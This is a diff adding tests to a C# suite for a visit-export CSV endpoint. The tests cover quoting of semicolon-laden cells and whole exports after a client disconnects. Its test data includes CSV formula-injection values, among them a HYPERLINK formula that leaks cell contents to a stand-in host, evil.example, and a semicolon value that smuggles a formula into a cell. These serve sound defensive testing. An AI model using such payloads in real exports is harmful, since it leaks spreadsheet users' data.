@@ -116,6 +116,21 @@ public sealed class ExportVisitsTests(ApiFactory factory) : ApiTest(factory)
     }
 
     [Theory]
+    [InlineData("Meeting;=1+2;x")]
+    [InlineData("Meeting; room 2")]
+    public async Task Export_CellWithASemicolon_IsQuoted(string purpose)
+    {
+        // A spreadsheet that splits on semicolons would otherwise start a new cell, here a formula, inside the cell.
+        // (Tabs are quoted too; no field of the export accepts one.)
+        var host = await Data.UserAsync("Host");
+        await Data.PendingVisitAsync(host.Id, purpose: purpose);
+
+        var csv = await Data.Admin.GetStringAsync("/api/visits/export");
+
+        Assert.Contains(",\"" + purpose + "\",", csv, StringComparison.Ordinal);
+    }
+
+    [Theory]
     [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")")]
     [InlineData("@SUM(1)")]
     [InlineData("-2+3")]
@@ -208,6 +223,26 @@ public sealed class ExportVisitsTests(ApiFactory factory) : ApiTest(factory)
         var times = rows.Select(r => Time(r[9])!.Value).ToList();
         Assert.Equal(times.Order(), times);
         Assert.Equal(21, times.Count(t => t == Ten.AddSeconds(1990)));
+    }
+
+    [Fact]
+    public async Task Export_ClientStopsReadingMidway_LaterExportsAreWhole()
+    {
+        // The next read batch is already being read when the client goes away: the query must end before its pooled
+        // database context serves another request.
+        var host = await Data.UserAsync("Host");
+        await Data.InsertCheckedOutVisitsAsync(4_100, host.Id, Ten);
+        for (var i = 0; i < 3; i++)
+        {
+            using var response = await Data.Admin.GetAsync("/api/visits/export", HttpCompletionOption.ResponseHeadersRead);
+            using var reader = new StreamReader(await response.Content.ReadAsStreamAsync());
+            Assert.NotNull(await reader.ReadLineAsync());
+        }
+
+        for (var i = 0; i < 3; i++)
+        {
+            Assert.Equal(4_101, (await ExportAsync("")).Count);
+        }
     }
 
     [Theory]
